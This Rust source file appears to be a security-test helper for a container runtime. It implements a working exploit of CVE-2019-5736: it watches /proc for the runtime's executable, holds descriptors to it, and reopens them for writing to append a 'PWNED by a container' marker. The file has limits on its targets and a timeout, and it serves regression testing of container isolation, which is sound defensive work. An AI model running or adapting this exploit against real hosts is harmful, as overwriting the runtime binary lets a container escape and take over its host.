//! The CVE-2019-5736 attacker, as a container process would run it: watch
//! /proc for processes whose executable looks like the runtime, keep an
//! O_PATH descriptor to each, and once the runtime has exited reopen the
//! descriptors for writing through /proc/self/fd.
//!
//! Usage: `exe-hunt STOPFILE MATCH[,MATCH..] [POKE..]`. Only executables
//! whose link target contains one of MATCH are touched, so the hunter can
//! never write into an unrelated host binary (a container without a pid
//! namespace sees every host process). Each POKE path (a fifo the victim
//! reads) is opened for writing and closed after a grab (or every 2 s),
//! which releases a victim blocked on it once the hunter has had its
//! chance. The hunt
//! ends when STOPFILE exists (or after 60 s); then every descriptor gets
//! 5 s of attempts at an O_WRONLY reopen (ETXTBSY while the binary runs).
//! STOPFILE.ready appears once the first full round is done, so a test
//! knows the hunter was watching before it acts.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs;
use std::time::{Duration, Instant};

use crate::json::J;

struct Grab {
    pid: i32,
    target: String,
    fd: i32,
}

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(-1)
}

fn open(path: &str, flags: i32) -> Result<i32, i32> {
    let c = CString::new(path).map_err(|_| libc::EINVAL)?;
    // SAFETY: a valid C string; the descriptor is ours.
    let fd = unsafe { libc::open(c.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        Err(errno())
    } else {
        Ok(fd)
    }
}

fn link(path: &str) -> Option<String> {
    fs::read_link(path)
        .ok()
        .map(|p| p.to_string_lossy().into_owned())
}

fn pids(me: i32) -> Vec<i32> {
    let Ok(rd) = fs::read_dir("/proc") else {
        return Vec::new();
    };
    rd.flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .filter(|p| *p != me)
        .collect()
}

pub fn exe_hunt(args: &[String]) -> J {
    let (Some(stop), Some(wanted)) = (args.first(), args.get(1)) else {
        return J::obj().with(
            "error",
            J::str("usage: exe-hunt STOPFILE MATCH[,MATCH..] [POKE..]"),
        );
    };
    let wanted: Vec<&str> = wanted.split(',').filter(|m| !m.is_empty()).collect();
    let pokes = &args[2..];
    let matches = |t: &str| wanted.iter().any(|m| t.contains(m));
    // SAFETY: getpid cannot fail.
    let me = unsafe { libc::getpid() };
    let mut grabbed: Vec<Grab> = Vec::new();
    let mut denied: BTreeSet<(i32, i32)> = BTreeSet::new();
    let mut rounds = 0u64;
    let end = Instant::now() + Duration::from_secs(60);
    let ready = format!("{stop}.ready");
    // A victim blocked on a POKE fifo waits for us: release it only once
    // it has been grabbed, or after a while (one we cannot grab).
    let mut last_poke = Instant::now();
    let mut grabbed_since_poke = false;
    while fs::metadata(stop).is_err() && Instant::now() < end {
        if rounds == 1 {
            let _ = fs::write(&ready, b"");
        }
        rounds += 1;
        for pid in pids(me) {
            let path = format!("/proc/{pid}/exe");
            // A process whose link cannot be read is tried anyway: being
            // denied is the result we want to see.
            let target = link(&path).unwrap_or_default();
            if !target.is_empty() && !matches(&target) {
                continue;
            }
            match open(&path, libc::O_PATH) {
                Ok(fd) => {
                    let t = link(&format!("/proc/self/fd/{fd}")).unwrap_or_default();
                    let known = grabbed.iter().any(|g| g.pid == pid && g.target == t);
                    if matches(&t) && !known {
                        // Said at once: the hunter may be killed before its
                        // report (a container torn down by a failed start).
                        let line = J::obj()
                            .with("grab", J::Int(pid as i64))
                            .with("target", J::str(t.clone()));
                        println!("{}", line.render());
                        let _ = std::io::Write::flush(&mut std::io::stdout());
                        grabbed.push(Grab { pid, target: t, fd });
                        grabbed_since_poke = true;
                    } else {
                        // SAFETY: our own descriptor.
                        unsafe { libc::close(fd) };
                    }
                }
                Err(e) if e == libc::EACCES || e == libc::EPERM => {
                    denied.insert((pid, e));
                }
                Err(_) => {}
            }
        }
        if grabbed_since_poke || last_poke.elapsed() > Duration::from_secs(2) {
            for p in pokes {
                if let Ok(fd) = open(p, libc::O_WRONLY | libc::O_NONBLOCK) {
                    // SAFETY: our own descriptor.
                    unsafe { libc::close(fd) };
                }
            }
            last_poke = Instant::now();
            grabbed_since_poke = false;
        }
    }
    let mut written = Vec::new();
    let mut write_errors = Vec::new();
    for g in &grabbed {
        let reopen = format!("/proc/self/fd/{}", g.fd);
        let until = Instant::now() + Duration::from_secs(5);
        loop {
            match open(&reopen, libc::O_WRONLY | libc::O_APPEND) {
                Ok(fd) => {
                    let msg = b"PWNED by a container\n";
                    // SAFETY: writing a buffer we own to our descriptor.
                    let n = unsafe { libc::write(fd, msg.as_ptr().cast(), msg.len()) };
                    // SAFETY: as above.
                    unsafe { libc::close(fd) };
                    if n > 0 {
                        written.push(J::str(g.target.clone()));
                    } else {
                        write_errors.push(failure(g, errno()));
                    }
                    break;
                }
                Err(libc::ETXTBSY) if Instant::now() < until => {
                    std::thread::sleep(Duration::from_millis(20))
                }
                Err(e) => {
                    write_errors.push(failure(g, e));
                    break;
                }
            }
        }
    }
    J::obj()
        .with("rounds", J::UInt(rounds))
        .with(
            "grabbed",
            J::Arr(
                grabbed
                    .iter()
                    .map(|g| {
                        J::obj()
                            .with("pid", J::Int(g.pid as i64))
                            .with("target", J::str(g.target.clone()))
                    })
                    .collect(),
            ),
        )
        .with(
            "denied",
            J::Arr(
                denied
                    .iter()
                    .take(50)
                    .map(|(p, e)| {
                        J::obj()
                            .with("pid", J::Int(*p as i64))
                            .with("errno", J::Int(*e as i64))
                    })
                    .collect(),
            ),
        )
        .with("written", J::Arr(written))
        .with("write_errors", J::Arr(write_errors))
}

fn failure(g: &Grab, e: i32) -> J {
    J::obj()
        .with("target", J::str(g.target.clone()))
        .with("errno", J::Int(e as i64))
}
